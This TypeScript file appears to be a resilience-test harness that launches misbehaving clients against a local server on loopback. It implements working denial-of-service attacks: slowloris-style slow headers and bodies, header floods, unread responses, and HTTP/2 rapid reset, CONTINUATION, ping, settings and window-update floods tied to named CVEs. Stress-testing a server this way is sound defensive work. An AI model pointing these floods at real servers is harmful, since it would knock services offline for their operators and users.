/**
 * Ill-behaved clients, in a process of their own: `node attacker.ts '{"attack":…}'` begins one attack, keeps it up until its standard input
 * ends, and prints what it did. On loopback only.
 */
import { connect, type Socket } from 'node:net'

export interface Attack {
  readonly attack: keyof typeof attacks
  readonly port: number
  /** last byte of the first address that is connected from, 127.0.0.x: one address has too few ports */
  readonly from: number
  readonly connections: number
}
export interface Report {
  /** connections that came to be */
  readonly opened: number
  /** frames, bytes or requests that were sent beyond opening */
  readonly sent: number
}

/** [connections] from one address */
const perAddress = 10_000
/** [connections] that are being opened at one time */
const atOnce = 200

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)])
const post = (length: number) =>
  `POST /v1/metrics HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\ncontent-length: ${length}\r\n\r\n`

/** What is done with a connection once it is open; what it returns is done again and again, as fast as the other side takes it or every second. */
type Behaviour = (
  socket: Socket,
  count: (n: number) => void,
) => { readonly again?: () => boolean; readonly everySecond?: () => void } | undefined

export const attacks = {
  /** says nothing, ever */
  left: () => undefined,
  /** a byte of a head in a second */
  'slow heads': trickle(post(10) + 'x'.repeat(10), 0),
  /** a whole head, and a byte of the body in a second */
  'slow bodies': trickle(post(1_000_000) + 'x'.repeat(1000), post(1_000_000).length),
  /** the preface of HTTP/2 and no more */
  'left after the preface': socket => void socket.write(preface),
  /** a call, and a byte of its message in a second */
  'slow calls': (socket, count) => {
    socket.write(Buffer.concat([preface, headers(1, false), frame(0, 0, 1, Buffer.from([0, 0, 0x10, 0, 0]))]))
    return {
      everySecond() {
        socket.write(frame(0, 0, 1, Buffer.from('x')))
        count(1)
      },
    }
  },
  /** heads without an end */
  'header flood': again(
    'x-flood: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n'.repeat(50),
    'GET / HTTP/1.1\r\n',
  ),
  /** the sender's half is closed, in the middle of a body; ours is left open */
  'half-closed': socket => void socket.end(`${post(1000)}abc`),
  /** requests one after the other, and no answer is ever read */
  'unread answers': again(post(0).repeat(100)),
  /** small requests for a page that is large, and no answer is ever read */
  'unread pages': again('GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(10)),
  /** nonsense, from the first byte */
  garbage: socket => void socket.write(Buffer.from(Array.from({ length: 200 }, (_, n) => (n * 73 + 11) & 255))),
  /** CVE-2023-44487: calls that are taken back as soon as they are made */
  'rapid reset': streams(id => Buffer.concat([headers(id, false), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))])),
  /** calls without number, and no answer is ever read */
  'unread calls': streams(id => headers(id, true)),
  /** CVE-2024-27316: a header block without an end */
  'continuation flood': again(
    Buffer.concat(Array.from({ length: 10 }, () => frame(9, 0, 1, literal('x-flood', 'a'.repeat(100))))),
    preface,
    headers(1, false, 0),
  ),
  'ping flood': again(Buffer.concat(Array.from({ length: 100 }, () => frame(6, 0, 0, Buffer.alloc(8)))), preface),
  'settings flood': again(Buffer.concat(Array.from({ length: 100 }, () => frame(4, 0, 0))), preface),
  /** CVE-2019-9517 and its kind: windows opened byte by byte */
  'window update flood': again(Buffer.concat(Array.from({ length: 100 }, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1])))), preface),
  'empty frames': again(Buffer.concat(Array.from({ length: 100 }, () => frame(0, 0, 1))), preface, headers(1, false)),
} satisfies Record<string, Behaviour>

/** `before` is sent at once, the rest a byte in a second. */
function trickle(text: string, before: number): Behaviour {
  return (socket, count) => {
    let at = before
    if (before > 0) socket.write(text.slice(0, before))
    return {
      everySecond() {
        if (at >= text.length) return
        socket.write(text[at++]!)
        count(1)
      },
    }
  }
}

function again(bytes: string | Buffer, ...first: readonly (string | Buffer)[]): Behaviour {
  return (socket, count) => {
    for (const one of first) socket.write(one)
    return {
      again() {
        count(1)
        return socket.write(bytes)
      },
    }
  }
}

function streams(make: (id: number) => Buffer): Behaviour {
  return (socket, count) => {
    socket.write(preface)
    let id = 1
    return {
      again() {
        const some: Buffer[] = []
        for (let n = 0; n < 50; n++, id += 2) some.push(make(id))
        count(50)
        return socket.write(Buffer.concat(some))
      },
    }
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
/** HPACK: a literal that is not indexed. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)])
}
/** The head of a call. @param flags END_HEADERS, unless it is told to go on */
function headers(id: number, end: boolean, flags = 4): Buffer {
  const block = [
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', '/opentelemetry.proto.collector.logs.v1.LogsService/Export'),
    literal(':authority', 'x'),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]
  return frame(1, flags | (end ? 1 : 0), id, Buffer.concat(block))
}

class Attacker {
  readonly #attack: Attack
  readonly #behaviour: Behaviour
  readonly #open = new Map<Socket, ReturnType<Behaviour>>()
  #tried = 0
  #opening = 0
  #opened = 0
  #sent = 0

  constructor(attack: Attack) {
    this.#attack = attack
    this.#behaviour = attacks[attack.attack]
  }

  begin(): void {
    setInterval(() => this.#everySecond(), 1000)
    this.#openMore()
  }

  report(): Report {
    return { opened: this.#opened, sent: this.#sent }
  }

  #openMore(): void {
    for (; this.#opening < atOnce && this.#tried < this.#attack.connections; this.#tried++) {
      this.#opening++
      const localAddress = `127.0.0.${this.#attack.from + Math.floor(this.#tried / perAddress)}`
      const socket = connect({ host: '127.0.0.1', port: this.#attack.port, localAddress, allowHalfOpen: true })
      let connected = false
      const begun = () => {
        if (connected) return
        connected = true
        this.#opening--
        if (this.#tried === this.#attack.connections && this.#opening === 0) process.stdout.write('open\n')
        setImmediate(() => this.#openMore())
      }
      socket.on('error', () => {})
      socket.on('connect', () => {
        this.#opened++
        // Nothing is ever read.
        socket.pause()
        const going = this.#behaviour(socket, n => (this.#sent += n))
        this.#open.set(socket, going)
        if (going?.again !== undefined) this.#goOn(socket, going.again)
        begun()
      })
      socket.on('close', () => {
        this.#open.delete(socket)
        begun()
      })
    }
  }

  #goOn(socket: Socket, again: () => boolean): void {
    if (socket.destroyed || !socket.writable) return
    const turn = () => this.#goOn(socket, again)
    if (again()) setImmediate(turn)
    else socket.once('drain', turn)
  }

  #everySecond(): void {
    for (const [socket, going] of this.#open) if (socket.writable) going?.everySecond?.()
  }
}

if (process.argv[2] !== undefined) {
  const attacker = new Attacker(JSON.parse(process.argv[2]) as Attack)
  attacker.begin()
  process.stdin.resume()
  process.stdin.on('end', () => {
    process.stdout.write(`${JSON.stringify(attacker.report())}\n`, () => process.exit(0))
  })
}
